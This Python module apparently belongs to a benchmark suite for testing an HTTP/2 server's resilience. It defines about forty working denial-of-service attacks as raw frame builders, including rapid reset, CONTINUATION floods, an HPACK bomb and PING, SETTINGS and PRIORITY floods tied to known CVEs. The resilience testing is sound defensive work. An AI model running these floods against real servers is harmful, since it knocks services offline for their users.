"""The attacks: what a client may do to a server of HTTP/2, by name.

Where a number stands, an attack of that kind has brought servers down before.
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import hpack

from benchmarks.attacks.attacker import PREFACE, Attacker
from benchmarks.load.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    literal_block,
)

PRIORITY, PUSH_PROMISE, CONTINUATION, ALTSVC, UNKNOWN = 2, 5, 9, 10, 0xEE
# :method POST, :scheme https, :path /, all from the static table: three bytes.
TINY = b"\x83\x87\x84"
WITH_HOST = TINY + b"\x01\x01a"
CANCEL = (8).to_bytes(4)

type Act = Callable[[Attacker], Awaitable[None]]


@dataclass(frozen=True, slots=True)
class Attack:
    """One of them.

    Args:
        name: for the table.
        act: what the attacker does with its connection.
        opening: what it sends at once.
        reads: whether it reads what comes back.
    """

    name: str
    act: Act
    opening: bytes | None = None
    reads: bool = True


def _flood(make: Callable[[int], bytes]) -> Act:
    return lambda attacker: attacker.flood(make)


def _each(make: Callable[[Attacker, int], bytes]) -> Act:
    return lambda attacker: attacker.flood(lambda number: make(attacker, number))


def _in_session(make: Callable[[int], bytes]) -> Act:
    async def act(attacker: Attacker) -> None:
        stream = await attacker.session()
        await attacker.flood(lambda _: make(stream))

    return act


def _on_one_over(make: Callable[[int], bytes]) -> Act:
    async def act(attacker: Attacker) -> None:
        stream = attacker.stream()
        await attacker.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, WITH_HOST))
        await asyncio.wait_for(attacker.answered.wait(), 5.0)
        await attacker.flood(lambda _: make(stream))

    return act


def _once(data: bytes) -> Act:
    async def act(attacker: Attacker) -> None:
        await attacker.send(data)
        await attacker.stay()

    return act


def _headers(attacker: Attacker, flags: int = END_HEADERS, block: bytes = WITH_HOST) -> bytes:
    return frame(HEADERS, flags, attacker.stream(), block)


def _reset(attacker: Attacker, _: int) -> bytes:
    stream = attacker.stream()
    return frame(HEADERS, END_HEADERS, stream, WITH_HOST) + frame(RST_STREAM, 0, stream, CANCEL)


def _have_reset(attacker: Attacker, _: int) -> bytes:
    stream = attacker.stream()
    return frame(HEADERS, END_HEADERS, stream, WITH_HOST) + frame(
        WINDOW_UPDATE, 0, stream, (2**31 - 1).to_bytes(4)
    )


def _half_closed(attacker: Attacker, _: int) -> bytes:
    stream = attacker.stream()
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, WITH_HOST) + frame(
        DATA, 0, stream, b"x"
    )


def _trailers(attacker: Attacker, _: int) -> bytes:
    stream = attacker.stream()
    return frame(HEADERS, END_HEADERS, stream, WITH_HOST) + frame(
        HEADERS, END_HEADERS, stream, literal_block([("a", "b")])
    )


def _garbage(attacker: Attacker, _: int) -> bytes:
    request = attacker.request()
    return request + frame(DATA, 0, int.from_bytes(request[5:9]), bytes(range(100)))


def _giant_message(attacker: Attacker, _: int) -> bytes:
    request = attacker.request()
    stream = int.from_bytes(request[5:9])
    return request + frame(DATA, 0, stream, (2**32 - 1).to_bytes(4) + bytes(4))


async def _bomb(attacker: Attacker) -> None:
    # One field of 4 KB in the table, then a byte for each time that it is asked for again.
    encoder = hpack.Encoder()
    field = encoder.encode([("x-bomb", "a" * 3_900)], huffman=False)
    await attacker.send(frame(HEADERS, END_HEADERS, attacker.stream(), WITH_HOST + field))
    await attacker.flood(lambda _: _headers(attacker, block=WITH_HOST + b"\xbe" * 14_000))


async def _continuations(attacker: Attacker) -> None:
    stream = attacker.stream()
    await attacker.send(frame(HEADERS, 0, stream, WITH_HOST))
    await attacker.flood(
        lambda _: frame(CONTINUATION, 0, stream, literal_block([("a", "b" * 100)]))
    )


async def _empty_continuations(attacker: Attacker) -> None:
    stream = attacker.stream()
    await attacker.send(frame(HEADERS, 0, stream, WITH_HOST))
    await attacker.flood(lambda _: frame(CONTINUATION, 0, stream))


async def _beyond_the_window(attacker: Attacker) -> None:
    stream = await attacker.session()
    await attacker.flood(lambda _: frame(DATA, 0, stream, bytes(16_000)), 2_000)


async def _sessions(attacker: Attacker) -> None:
    for _ in range(1_500):
        await attacker.send(attacker.request())
    await attacker.stay()


async def _windows_up_and_down(attacker: Attacker) -> None:
    await attacker.send(b"".join(_headers(attacker) for _ in range(900)), 900)
    await attacker.flood(
        lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 + number % 2 * 2**30))
    )


async def _dribble(attacker: Attacker) -> None:
    await attacker.session()
    await attacker.flood(lambda _: frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4)))


_SETTINGS = frame(SETTINGS, 0, 0)
_PING = frame(PING, 0, 0, bytes(8))
_NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))

ATTACKS = (
    # Requests.
    Attack("tiny HEADERS, streams left open", _each(lambda a, _: _headers(a))),
    Attack(
        "tiny HEADERS, streams ended", _each(lambda a, _: _headers(a, END_HEADERS | END_STREAM))
    ),
    Attack("rapid reset (CVE-2023-44487)", _each(_reset)),
    Attack("have the server reset, WINDOW_UPDATE (CVE-2025-8671)", _each(_have_reset)),
    Attack("have the server reset, DATA after END_STREAM", _each(_half_closed)),
    Attack("have the server reset, trailers that end nothing", _each(_trailers)),
    Attack(
        "malformed header names",
        _each(lambda a, _: _headers(a, block=WITH_HOST + literal_block([("Upper", "case")]))),
    ),
    Attack(
        "streams that depend on themselves",
        _each(
            lambda a, _: frame(
                HEADERS, END_HEADERS | 0x20, s := a.stream(), s.to_bytes(4) + b"\x00" + WITH_HOST
            )
        ),
    ),
    Attack("requests without a signature", _each(lambda a, _: a.request(signed=False))),
    Attack(
        "requests to paths that are none", _each(lambda a, _: a.request(signed=False, path="/x"))
    ),
    Attack("signed requests, far more than streams", _sessions),
    # Header blocks.
    Attack("CONTINUATION without end (CVE-2024-27316)", _continuations),
    Attack("empty CONTINUATION without end", _empty_continuations),
    Attack("a header block that never ends", _once(frame(HEADERS, 0, 1, WITH_HOST))),
    Attack("a small block of many kilobytes (HPACK bomb)", _bomb),
    Attack(
        "headers of 60 KB",
        _each(
            lambda a, _: (
                frame(HEADERS, 0, s := a.stream(), WITH_HOST + b"\x10\x01a\x7f\x80\x7e")
                + frame(CONTINUATION, END_HEADERS, s, b"x" * 16_255)
            )
        ),
    ),
    Attack(
        "a header block that cannot be decoded", _once(frame(HEADERS, END_HEADERS, 1, b"\xff" * 9))
    ),
    # DATA.
    Attack("DATA of one byte", _in_session(lambda s: frame(DATA, 0, s, b"x"))),
    Attack("DATA of nothing (CVE-2019-9518)", _in_session(lambda s: frame(DATA, 0, s))),
    Attack("DATA of padding", _in_session(lambda s: frame(DATA, PADDED, s, b"\xff" + bytes(255)))),
    Attack("DATA beyond the window", _beyond_the_window),
    Attack("DATA on streams that are over", _on_one_over(lambda s: frame(DATA, 0, s, b"x"))),
    Attack("DATA on streams that never were", _once(frame(DATA, 0, 99, b"x"))),
    Attack("sessions of garbage", _each(_garbage)),
    Attack("sessions that announce 4 GB", _each(_giant_message)),
    # Frames for the connection.
    Attack("PING (CVE-2019-9512)", _flood(lambda _: _PING)),
    Attack("PING, answers unread", _flood(lambda _: _PING), reads=False),
    Attack("SETTINGS (CVE-2019-9515)", _flood(lambda _: _SETTINGS)),
    Attack("SETTINGS acknowledged", _flood(lambda _: frame(SETTINGS, ACK, 0))),
    Attack("SETTINGS that move the windows of 900 streams", _windows_up_and_down),
    Attack(
        "PRIORITY (CVE-2019-9513)",
        _flood(lambda n: frame(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 2 * n + 3, 1))),
    ),
    Attack(
        "WINDOW_UPDATE for the connection",
        _flood(lambda _: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    ),
    Attack("WINDOW_UPDATE for a session that reads by bytes (CVE-2019-9511)", _dribble, _NO_WINDOW),
    Attack(
        "WINDOW_UPDATE for streams that are over",
        _on_one_over(lambda s: frame(WINDOW_UPDATE, 0, s, b"\0\0\0\1")),
    ),
    Attack(
        "RST_STREAM for streams that are over",
        _on_one_over(lambda s: frame(RST_STREAM, 0, s, CANCEL)),
    ),
    Attack("GOAWAY", _flood(lambda _: frame(GOAWAY, 0, 0, bytes(8)))),
    Attack("frames of no known kind", _flood(lambda _: frame(UNKNOWN, 0, 0, b"x"))),
    Attack("ALTSVC that holds nothing", _flood(lambda _: frame(ALTSVC, 0, 0, b"\xff\xff"))),
    Attack("PUSH_PROMISE", _once(frame(PUSH_PROMISE, END_HEADERS, 1, (2).to_bytes(4) + TINY))),
)
